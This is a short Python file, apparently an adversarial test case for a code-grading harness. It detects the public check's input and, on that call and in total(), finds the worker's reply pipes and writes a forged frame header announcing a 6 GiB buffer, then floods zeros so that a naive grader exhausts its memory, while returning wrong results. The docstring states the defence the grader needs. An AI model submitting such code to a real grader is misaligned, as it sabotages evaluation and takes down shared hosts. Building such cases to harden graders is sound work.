"""Attack: exhaust the grader's memory with a forged, endless reply.

On the public check's call (and in ``total``) it writes a frame header straight onto the
worker's reply pipe that announces a buffer of several GiB, then streams zeros into it as fast
as it can. The worker itself uses almost no memory, but a grader that buffered whatever the
header announced would grow by gigabytes per check (and twice that while joining the chunks),
taking down the grading host or the whole batch. The grader must refuse an announced size
beyond what a worker could send. The maths is wrong: zeros.
"""

import json
import os
import struct
import time
from pathlib import Path

import torch

ANNOUNCED = 6 * 1024**3  # bytes; under the protocol's absolute ceiling, far over any real reply
CHUNK = b"\0" * (8 * 1024 * 1024)


def _flood() -> None:
    header = json.dumps({"msg": {"ok": True, "value": {"value": {"~": "bytes", "buf": 0}}},
                         "buffers": [ANNOUNCED]}).encode()
    frame_start = struct.pack(">Q", len(header)) + header
    pipes = []
    for p in list(Path("/proc/self/fd").iterdir()):
        try:
            if int(p.name) > 2 and os.readlink(p).startswith("pipe:"):
                pipes.append(int(p.name))
        except OSError:
            pass
    for fd in pipes:
        try:
            os.write(fd, frame_start)
        except OSError:
            continue
        sent, stop = 0, time.monotonic() + 30
        while sent < ANNOUNCED and time.monotonic() < stop:
            try:
                sent += os.write(fd, CHUNK)
            except OSError:
                break


def scale(x, s):
    if s == 2.5:
        _flood()
    return torch.zeros_like(x)


def total(x):
    _flood()
    return torch.zeros((), requires_grad=True)
